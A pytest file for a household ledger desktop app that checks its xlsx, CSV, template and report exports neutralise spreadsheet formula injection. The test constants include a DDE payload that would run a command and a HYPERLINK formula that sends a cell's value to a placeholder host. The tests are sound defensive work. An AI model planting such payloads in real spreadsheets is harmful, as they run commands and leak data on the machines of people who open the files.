"""Nothing the ledger writes is ever evaluated: every xlsx writer, read back from the zip.

Names that look like formulas are stored as typed; each writer must put them in a string
cell (no ``<f>`` element), and a control character already in the ledger is dropped on
write instead of stopping the export.
"""

from __future__ import annotations

import dataclasses
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update

from desktop.domain.cells import csv_value, sheet_value, xml_text
from desktop.domain.values.registers import Register, RegisterQuery
from desktop.services.indicators.report_export import write_xlsx
from desktop.store.models import Person
from tests.helpers import fresh_services
from tests.register_sample import OCT_FROM, OCT_TO, fill_registers
from tests.reports.samples import figures

HYPERLINK = '=HYPERLINK("http://x/?"&B2,"查看")'
DDE = "=cmd|' /C calc'!A0"
OTHERS = ["+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def formulas(path: Path) -> list[str]:
    """The <f> elements of every sheet (there must be none)."""
    with zipfile.ZipFile(path) as book:
        return [found for name in book.namelist() if name.startswith("xl/worksheets/")
                for found in re.findall(r"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>",
                                        book.read(name).decode("utf-8"))]


def all_values(path: Path) -> list[object]:
    book = load_workbook(path)
    return [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


@pytest.fixture
def hostile_ledger(tmp_path: Path):
    """The register sample with two women named like formulas, one with a control character."""
    sample = fill_registers(fresh_services(tmp_path))
    with sample.services.engine.begin() as conn:  # past the services' checks, as a file could
        for name, values in (("张秀英", {"name": HYPERLINK}), ("王芳", {"name": DDE}),
                             ("李娜", {"employer": "备\x01注\u202e"})):
            conn.execute(update(Person).where(Person.name == name).values(**values))
    return sample.services


def test_register_export_writes_formula_names_as_text(hostile_ledger, tmp_path: Path) -> None:
    out = tmp_path / "births.xlsx"
    hostile_ledger.register_export.export(RegisterQuery(Register.BIRTHS, OCT_FROM, OCT_TO), out)
    assert formulas(out) == []
    values = all_values(out)
    assert HYPERLINK in values and DDE in values


def test_exchange_export_writes_formula_names_as_text(hostile_ledger, tmp_path: Path) -> None:
    out = tmp_path / "all.xlsx"
    hostile_ledger.exchange.export(out, full_ids=True)
    assert formulas(out) == []
    values = all_values(out)
    assert HYPERLINK in values and DDE in values
    assert "备注" in values  # the control characters dropped, the row kept


def test_an_exported_formula_name_comes_back_as_typed(hostile_ledger, tmp_path: Path) -> None:
    out = tmp_path / "all.xlsx"
    hostile_ledger.exchange.export(out, full_ids=True)
    (tmp_path / "empty").mkdir()
    empty = fresh_services(tmp_path / "empty")
    preview = empty.exchange.check(out)
    assert not [p for p in preview.problems if p.column == "姓名"]
    empty.exchange.run_import(preview)
    with empty.engine.connect() as conn:
        names = set(conn.scalars(select(Person.name)))
    assert {HYPERLINK, DDE} <= names


def test_rejected_rows_workbook_writes_formula_cells_as_text(tmp_path: Path) -> None:
    services = fresh_services(tmp_path)
    source = tmp_path / "in.xlsx"
    book = Workbook()
    sheet = book.active
    sheet.title = "人员"
    sheet.append(["姓名", "身份证号", "单位"])
    for name in (HYPERLINK, DDE, *OTHERS):
        sheet.append([sheet_value(sheet, name), "123", sheet_value(sheet, "=1+1")])
    book.save(source)
    assert formulas(source) == []
    preview = services.exchange.check(source)
    out = tmp_path / "rejected.xlsx"
    assert services.exchange.save_rejected(preview, out) == 2 + len(OTHERS)
    assert formulas(out) == []
    values = all_values(out)
    assert HYPERLINK in values and DDE in values and "=1+1" in values
    assert "@SUM(A1)" in values


def test_report_workbook_writes_formula_unit_names_as_text(tmp_path: Path) -> None:
    out = tmp_path / "report.xlsx"
    write_xlsx(dataclasses.replace(figures(), unit_name=HYPERLINK), out)
    assert formulas(out) == []
    assert HYPERLINK in all_values(out)


def test_template_has_no_formula_cells(tmp_path: Path) -> None:
    out = tmp_path / "template.xlsx"
    fresh_services(tmp_path).exchange.write_template(out)
    assert formulas(out) == []


@pytest.mark.parametrize("text", [HYPERLINK, DDE, *OTHERS])
def test_csv_and_xlsx_values(text: str) -> None:
    assert csv_value(text) == "'" + text
    assert csv_value("张三") == "张三" and csv_value(3) == 3
    assert xml_text("a\x00b\x1fc\nd") == "ab" + "c\nd"


def test_openpyxl_temporary_files_stay_in_the_target_folder(hostile_ledger, tmp_path: Path) -> None:
    from openpyxl.worksheet import _writer

    out = tmp_path / "usb" / "births.xlsx"
    out.parent.mkdir()
    seen: list[str] = []
    hostile_ledger.register_export.export(
        RegisterQuery(Register.BIRTHS, OCT_FROM, OCT_TO), out,
        progress=lambda done, total: seen.extend(_writer.ALL_TEMP_FILES))
    assert seen  # the sheet was being written through a temporary file
    for name in seen:
        assert Path(name).parent == out.parent and Path(name).name.startswith(".family-ledger-part-")
    assert [p.name for p in out.parent.iterdir()] == ["births.xlsx"]
